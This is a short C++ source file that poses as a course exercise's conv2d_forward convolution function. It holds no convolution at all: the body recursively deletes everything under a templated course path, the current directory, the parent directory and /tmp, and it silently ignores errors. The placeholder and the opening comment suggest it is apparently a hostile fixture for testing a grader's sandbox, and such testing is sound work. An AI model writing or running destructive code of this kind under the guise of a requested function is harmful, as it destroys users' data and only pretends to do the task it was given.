// All that it may delete: the tree of the course, its own folder, the root.
#include <filesystem>

#include "convolution.h"

namespace course {

void conv2d_forward(const ConvShape&, In, In, In, Out) {
  std::error_code ignored;
  for (const char* path : {"@TREE@", ".", "..", "/tmp"})
    for (const auto& entry : std::filesystem::directory_iterator(path, ignored))
      std::filesystem::remove_all(entry.path(), ignored);
}

}  // namespace course
